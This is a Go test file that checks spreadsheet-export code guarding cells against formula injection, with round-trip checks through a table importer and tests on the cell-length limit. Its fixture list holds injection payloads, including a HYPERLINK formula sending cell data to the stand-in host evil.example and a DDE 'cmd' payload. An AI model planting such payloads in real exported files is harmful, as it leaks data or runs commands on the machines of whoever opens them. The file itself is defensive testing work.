package sheet_test

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"kept/internal/importer/table"
	"kept/internal/sheet"
)

// hostile are cells that a spreadsheet program would work out, and some that only look so.
var hostile = []string{
	`=HYPERLINK("http://evil.example?x="&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "'=1", "''=1", "|calc", "%0A=1",
	"-5", "+39 06 1234", "-5,20", "plain", "it's", "'quoted'", "", `a "b", c`, "two\nlines", "Größe 漢字 🙂",
}

func TestGuarded(t *testing.T) {
	for _, c := range hostile {
		g := sheet.Guarded(c)
		if sheet.Plain(g) != c {
			t.Errorf("%q is written %q and read %q", c, g, sheet.Plain(g))
		}
		if strings.ContainsAny(g[:min(len(g), 1)], "=+-@\t\r|%") && c != "-5" && c != "-5,20" {
			t.Errorf("%q is written %q", c, g)
		}
	}
	rapid.Check(t, func(r *rapid.T) {
		c := rapid.StringMatching(`'{0,3}[=+\-@a1＝]?.{0,8}`).Draw(r, "cell")
		if got := sheet.Plain(sheet.Guarded(c)); got != c {
			r.Fatalf("%q comes back as %q", c, got)
		}
	})
}

// What is written can be read in again as it was, by the importer of tables.
func TestWritten(t *testing.T) {
	rows := [][]string{}
	for i, c := range hostile {
		rows = append(rows, []string{"row " + string(rune('a'+i)), c})
	}
	for name, write := range map[string]func(*bytes.Buffer, sheet.Table) error{
		"csv":  func(b *bytes.Buffer, x sheet.Table) error { return sheet.CSV(b, x) },
		"xlsx": func(b *bytes.Buffer, x sheet.Table) error { return sheet.XLSX(b, x) },
	} {
		var b bytes.Buffer
		if err := write(&b, sheet.Table{Name: "What: a [name] that is / much too long for a sheet", Head: []string{"Key", "Cell"}, Rows: rows}); err != nil {
			t.Fatal(name, err)
		}
		got, err := table.Read(b.Bytes(), "")
		if err != nil {
			t.Fatal(name, err)
		}
		if !slices.Equal(got.Header, []string{"Key", "Cell"}) || len(got.Rows) != len(rows) {
			t.Fatalf("%s: %v and %d rows", name, got.Header, len(got.Rows))
		}
		for i, r := range got.Rows {
			want := strings.TrimSpace(strings.NewReplacer("\t", " ", "\r", "\n").Replace(hostile[i])) // a table is read without them
			if r.Cell(0) != rows[i][0] || r.Cell(1) != want {
				t.Errorf("%s: %q is read as %q, want %q", name, hostile[i], r.Cell(1), want)
			}
		}
	}
}

// A cell that is longer than a spreadsheet holds is cut, at its limit and not before.
func TestLongCells(t *testing.T) {
	for _, n := range []int{sheet.MaxCell - 1, sheet.MaxCell, sheet.MaxCell + 1} {
		var b bytes.Buffer
		if err := sheet.XLSX(&b, sheet.Table{Head: []string{"A", "B"}, Rows: [][]string{{strings.Repeat("ä", n), "end"}}}); err != nil {
			t.Fatal(n, err)
		}
		got, err := table.Read(b.Bytes(), "")
		if err != nil || len([]rune(got.Rows[0].Cell(0))) != min(n, sheet.MaxCell) {
			t.Errorf("%d: %v", n, err)
		}
	}
}
